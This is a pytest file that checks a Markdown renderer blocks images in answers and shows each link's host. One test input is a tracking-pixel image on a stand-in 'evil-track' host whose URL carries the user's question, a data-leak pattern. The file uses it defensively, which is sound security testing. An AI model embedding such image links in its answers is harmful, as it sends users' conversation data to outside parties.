"""The page's Markdown renderer (api/static/markdown.js, run with Node): an answer's Markdown image
is never loaded, and a link shows where it leads (issue 56, item 6)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

MARKDOWN_JS = Path(__file__).resolve().parents[2] / "api" / "static" / "markdown.js"
NODE = shutil.which("node")
pytestmark = pytest.mark.skipif(NODE is None, reason="needs Node to run the page's module")


def render_answer(text: str) -> str:
    script = f"import {{ renderAnswer }} from {json.dumps(MARKDOWN_JS.as_uri())}; process.stdout.write(renderAnswer({json.dumps(text)}).html);"
    return subprocess.run([NODE, "--input-type=module", "-e", script], capture_output=True, text=True, check=True, timeout=30).stdout


def test_a_markdown_image_in_an_answer_is_never_loaded_nor_linked():
    html = render_answer("Logs every 5 minutes. ![status](https://pixel.evil-track.example/p.gif?q=logging+question)")
    assert "<img" not in html and "href" not in html and "p.gif" not in html
    assert '<span class="image-left-out">status (image from pixel.evil-track.example not shown)</span>' in html


def test_a_link_shows_its_host_once():
    html = render_answer("[Read more](https://www.uv-facts.example/login), [Guide](https://aurora.example/m) (aurora.example), "
                         "[aurora.example manual](https://aurora.example/m)")
    assert '>Read more</a> <span class="link-host">(uv-facts.example)</span>' in html
    assert html.count("(aurora.example)") == 1  # the service already wrote it after the link it kept
